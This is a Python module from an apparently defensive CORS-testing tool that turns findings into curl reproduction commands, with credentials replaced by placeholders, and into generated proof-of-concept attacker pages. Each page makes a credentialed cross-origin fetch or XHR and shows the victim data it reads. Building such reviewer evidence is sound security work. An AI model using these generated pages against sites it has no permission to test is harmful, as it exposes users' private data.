"""What a reviewer reruns: a proof-of-concept page per finding, and curl lines.

Built from the report dict alone. Everything from the target is hostile: values put
into the page's script go through :func:`_js` (JSON with ``<``, ``>``, ``&`` and the JS
line separators escaped, so no value can close the script), values put into shell
commands through :func:`shlex.quote`. The report shows both as escaped text to copy,
never as live markup.

Credentials are never invented and never shown: a cookie or header the user passed is
a placeholder named for the flag or variable it came from (``<value of --cookie sid>``,
``<value of sid in $CORSPROOF_COOKIE>``); one corsproof set itself (the lab's login) says
so. Headers the wire witness did not keep (``[not recorded]``) are left out.
"""

from __future__ import annotations

import json
import shlex
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

from harness.judge.rules import rule_for_class
from harness.model.results import Shape
from scenarios.shapes import default_shapes

NOT_RECORDED = "[not recorded]"
REDACTED = "[REDACTED]"

# Request headers a curl reproduction leaves out: curl sets them itself, they only
# describe the browser's transport, or they are fetch metadata no server needs to see.
_CURL_SKIP = frozenset(
    {
        "host",
        "content-length",
        "connection",
        "keep-alive",
        "transfer-encoding",
        "te",
        "upgrade",
        "accept-encoding",
        "proxy-connection",
        "sec-fetch-site",
        "sec-fetch-mode",
        "sec-fetch-dest",
        "sec-fetch-storage-access",
    }
)


def _shapes() -> dict[tuple[str, str], Shape]:
    """Every request shape corsproof sends, by (name, method)."""
    out: dict[tuple[str, str], Shape] = {}
    for unsafe in (True, False):
        for s in default_shapes(unsafe=unsafe, lab=False, token=True):
            out.setdefault((s.name, s.method.upper()), s)
    return out


SHAPES = _shapes()


# --------------------------------------------------------------------------- credentials


@dataclass(frozen=True)
class Secrets:
    """Where the run's credentials came from, by name only (from ``report["config"]``)."""

    cookies: Mapping[str, str]
    """Cookie name -> the placeholder a command shows for its value."""
    headers: Mapping[str, str]
    """Lower-cased header name -> the placeholder for its value."""
    fallback: str
    """Where a cookie nobody passed came from (the lab's login, --login-url, ...)."""
    connect_to: tuple[str, ...] = ()
    """``--connect-to`` of the run (``host:port:address:port``), which curl takes as is."""

    def cookie(self, name: str) -> str:
        return self.cookies.get(name) or f"<value of cookie {name}{self.fallback}>"

    def header(self, name: str) -> str:
        return self.headers.get(name.lower()) or f"<value of {name}>"


def secrets(config: Mapping[str, Any]) -> Secrets:
    """Placeholders for the run's cookies and headers, named for the user's own flags."""
    cookies: dict[str, str] = {}
    headers: dict[str, str] = {}
    for line in config.get("session_sources") or []:
        kind, _, rest = str(line).partition(" ")
        name, _, where = rest.partition(" from ")
        if not name or not where:
            continue
        if where.startswith("--cookie-env ") or where.startswith("--header-env "):
            var = where.split(" ", 1)[1]
            shown = f"<value of {name} in ${var}>"
        elif where.startswith("--secrets-file "):
            path = where.split(" ", 1)[1].rsplit(" line ", 1)[0]
            shown = f"<value of {name} from --secrets-file {path}>"
        else:
            shown = f"<value of {name} in ${where}>"
        if kind == "cookie":
            cookies.setdefault(name, shown)
        elif kind == "header":
            headers.setdefault(name.lower(), shown)
    for name in config.get("cookies") or []:
        cookies.setdefault(str(name), f"<value of --cookie {name}>")
    for name in config.get("headers") or []:
        headers.setdefault(str(name).lower(), f"<value of --header {name}>")
    if config.get("lab"):
        fallback = ", set by the lab login"
    elif config.get("login_urls"):
        fallback = ", set by --login-url"
    elif config.get("storage_state"):
        fallback = ", from --storage-state"
    else:
        fallback = ""
    connect = tuple(str(c) for c in config.get("connect_to") or [])
    return Secrets(cookies, headers, fallback, connect)


# --------------------------------------------------------------------------- curl


def pairs(value: Any) -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    for item in value or []:
        if isinstance(item, (list, tuple)) and len(item) == 2:
            out.append((str(item[0]), str(item[1])))
    return out


def _cookie_names(exchange: Mapping[str, Any]) -> list[str]:
    names = [str(c) for c in exchange.get("cookies") or []]
    for k, v in pairs(exchange.get("request_headers")):
        if k.lower() == "cookie":
            for part in v.split(";"):
                name = part.split("=", 1)[0].strip()
                if name and name not in names:
                    names.append(name)
    return names


def request_headers(
    exchange: Mapping[str, Any], shape: Shape | None, who: Secrets, *, preflight: bool
) -> list[tuple[str, str]]:
    """The headers a reproduction sends: recorded values, the shape's own, placeholders."""
    out: list[tuple[str, str]] = []
    seen: set[str] = set()
    shape_headers = {k.lower(): v for k, v in (shape.headers if shape else ())}
    for name, value in pairs(exchange.get("request_headers")):
        low = name.lower()
        if low in _CURL_SKIP or low in seen or low == "cookie":
            continue
        if not preflight and low in shape_headers:
            value = shape_headers[low]  # corsproof's own dummy values, never a secret
        elif REDACTED in value or (value == NOT_RECORDED and low in who.headers):
            value = who.header(name)  # the user's own credential: a placeholder
        if value == NOT_RECORDED:
            continue
        seen.add(low)
        out.append((name, value))
    if not preflight:
        for name in _cookie_names(exchange):
            out.append(("Cookie", f"{name}={who.cookie(name)}"))
    return _merge_cookies(out)


def _merge_cookies(headers: list[tuple[str, str]]) -> list[tuple[str, str]]:
    cookies = [v for k, v in headers if k == "Cookie"]
    rest = [(k, v) for k, v in headers if k != "Cookie"]
    return rest + ([("Cookie", "; ".join(cookies))] if cookies else [])


def curl(
    method: str,
    url: str,
    headers: Sequence[tuple[str, str]],
    body: str | None,
    connect_to: Sequence[str] = (),
) -> str:
    """One ``curl`` command line, every value shell-quoted; ``connect_to`` entries for
    the URL's host become ``--connect-to`` (the run reached the target there)."""
    parts = ["curl", "-i"]
    host = (urlsplit(url).hostname or "").lower()
    for entry in connect_to:
        if entry.lower().startswith(f"{host}:"):
            parts += ["--connect-to", shlex.quote(entry)]
    if method.upper() not in ("GET", ""):
        parts += ["-X", method.upper()]
    parts.append(shlex.quote(url))
    for name, value in headers:
        parts += ["-H", shlex.quote(f"{name}: {value}")]
    if body:
        parts += ["--data-raw", shlex.quote(body)]
    return " ".join(parts)


def curl_lines(evidence: Mapping[str, Any], who: Secrets) -> list[str]:
    """curl commands for an exchange record: its preflight, then its actual request."""
    out = []
    for label in ("preflight", "actual"):
        x = evidence.get(label)
        if not isinstance(x, Mapping) or not x.get("url"):
            continue
        method = "OPTIONS" if label == "preflight" else str(x.get("method") or "GET")
        shape = SHAPES.get((str(evidence.get("shape")), str(x.get("method") or "GET").upper()))
        headers = request_headers(x, shape, who, preflight=label == "preflight")
        body = shape.body if shape is not None and label == "actual" else None
        out.append(curl(method, str(x["url"]), headers, body, who.connect_to))
    return out


# --------------------------------------------------------------------------- attacker page


def _js(value: Any) -> str:
    """``value`` as a JavaScript literal that cannot end the script it sits in."""
    text = json.dumps(value, ensure_ascii=False)
    for raw, escaped in (
        ("<", "\\u003c"),
        (">", "\\u003e"),
        ("&", "\\u0026"),
        ("\u2028", "\\u2028"),
        ("\u2029", "\\u2029"),
    ):
        text = text.replace(raw, escaped)
    return text


def _escape_attr(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")
    )


def poc_page(probe: Mapping[str, Any], who: Secrets) -> str:
    """A minimal attacker page that repeats this probe's request and shows what it read.

    ``null`` origins run the request in a sandboxed frame (its origin is null), as the
    probe did; every other page must be served from exactly the probe's origin.
    """
    target, origin = str(probe.get("target")), str(probe.get("origin"))
    method = str(probe.get("method") or "GET").upper()
    shape = SHAPES.get((str(probe.get("shape")), method))
    headers: dict[str, str] = dict(shape.headers) if shape else {}
    if shape is not None and shape.token:
        headers.update({h: who.header(h) for h in who.headers} or {"Authorization": "<token>"})
    credentials = str(probe.get("credentials") or "omit")
    body = shape.body if shape else None
    if str(probe.get("api")) == "xhr":
        lines = [
            "const x = new XMLHttpRequest();",
            f"x.open({_js(method)}, {_js(target)});",
            f"x.withCredentials = {'true' if credentials == 'include' else 'false'};",
            *(f"x.setRequestHeader({_js(k)}, {_js(v)});" for k, v in headers.items()),
            "x.onload = () => {",
            '  out.textContent = "HTTP " + x.status + "\\n\\n" + x.responseText;',
            "};",
            'x.onerror = () => { out.textContent = "Blocked: the console says why."; };',
            f"x.send({_js(body) if body else ''});",
        ]
    else:
        init: dict[str, Any] = {"method": method, "credentials": credentials}
        if headers:
            init["headers"] = headers
        if body:
            init["body"] = body
        lines = [
            f"fetch({_js(target)}, {_js(init)})",
            "  .then(async (r) => {",
            '    out.textContent = "HTTP " + r.status + "\\n\\n" + (await r.text());',
            "  })",
            "  .catch((e) => {",
            '    out.textContent = "Blocked: " + e + " (the console says why)";',
            "  });",
        ]
    script = "\n".join(['const out = document.getElementById("out");', *lines])
    inner = (
        '<!doctype html>\n<meta charset="utf-8">\n<pre id="out">requesting…</pre>\n'
        f"<script>\n{script}\n</script>\n"
    )
    head = (
        "<!doctype html>\n<!-- corsproof proof of concept: "
        + _escape_attr(f"{method} {target} from {origin}").replace("--", "&#45;&#45;")
        + " -->\n"
        '<meta charset="utf-8">\n<title>corsproof proof of concept</title>\n'
    )
    if origin == "null":
        return (
            head + "<!-- The sandboxed frame's origin is null, as the probe's was. -->\n"
            f'<iframe sandbox="allow-scripts" style="width:100%;height:20em" '
            f'srcdoc="{_escape_attr(inner)}"></iframe>\n'
        )
    return head + inner.split("\n", 2)[2]


def serve_instructions(origin: str) -> tuple[str, list[str]]:
    """(one sentence, commands) for serving the page locally on exactly ``origin``."""
    if origin == "null":
        return (
            "Save it as poc.html, serve it from any origin and open it in a browser signed "
            "in to the target: its sandboxed frame has the origin null.",
            [
                "python3 -m http.server 8000 --bind 127.0.0.1",
                "# open http://localhost:8000/poc.html",
            ],
        )
    parts = urlsplit(origin)
    host = parts.hostname or ""
    scheme = parts.scheme or "https"
    try:
        port = parts.port or (443 if scheme == "https" else 80)
    except ValueError:
        port = 443 if scheme == "https" else 80
    local = host in ("localhost", "127.0.0.1", "[::1]", "::1") or host.endswith(".localhost")
    cmds = [] if local else [f"echo {shlex.quote('127.0.0.1 ' + host)} | sudo tee -a /etc/hosts"]
    sudo = "sudo " if port < 1024 else ""
    if scheme == "https":
        cn = shlex.quote(f"/CN={host}")
        san = shlex.quote(f"subjectAltName=DNS:{host}")
        cmds.append(
            "openssl req -x509 -newkey rsa:2048 -nodes -days 1 "
            f"-subj {cn} -addext {san} -keyout poc-key.pem -out poc-cert.pem"
        )
        server = (
            "import http.server as h, ssl; "
            f's = h.ThreadingHTTPServer(("127.0.0.1", {port}), h.SimpleHTTPRequestHandler); '
            "c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); "
            'c.load_cert_chain("poc-cert.pem", "poc-key.pem"); '
            "s.socket = c.wrap_socket(s.socket, server_side=True); s.serve_forever()"
        )
        cmds.append(f"{sudo}python3 -c {shlex.quote(server)}")
        note = " (accept the self-signed certificate once)"
    else:
        cmds.append(f"{sudo}python3 -m http.server {port} --bind 127.0.0.1")
        note = ""
    cmds.append(f"# open {origin}/poc.html{note}")
    where = "" if local else ", with a hosts entry for it,"
    return (
        f"Save it as poc.html, serve it on exactly {origin}{where} and open it in a browser "
        "signed in to the target:",
        cmds,
    )


def pick_probe(probes: Sequence[Mapping[str, Any]], rule: str = "") -> Mapping[str, Any] | None:
    """The read a proof of concept should repeat: the victim's data first, an origin of
    the class the finding's ``rule`` is about, a page that really had its origin, a
    default browser, a simple request, fetch."""
    reads = [p for p in probes if p.get("outcome") == "readable" and p.get("role") == "attacker"]

    def rank(p: Mapping[str, Any]) -> tuple[int, ...]:
        return (
            0 if p.get("victim_data") is True and p.get("cookie_sent") is True else 1,
            0 if rule_for_class(str(p.get("origin_class"))) == rule else 1,
            0 if p.get("credentials") == "include" else 1,
            0 if str(p.get("page_origin")) == str(p.get("origin")) else 1,
            0 if p.get("cookie_policy") == "default" else 1,
            0 if p.get("via") in (None, "page", "sandbox-srcdoc") else 1,
            0 if p.get("shape") == "simple-get" else 1,
            0 if p.get("api") == "fetch" else 1,
        )

    return min(reads, key=lambda p: (rank(p), str(p.get("id")))) if reads else None


__all__ = [
    "SHAPES",
    "Secrets",
    "curl",
    "curl_lines",
    "pick_probe",
    "poc_page",
    "secrets",
    "serve_instructions",
]
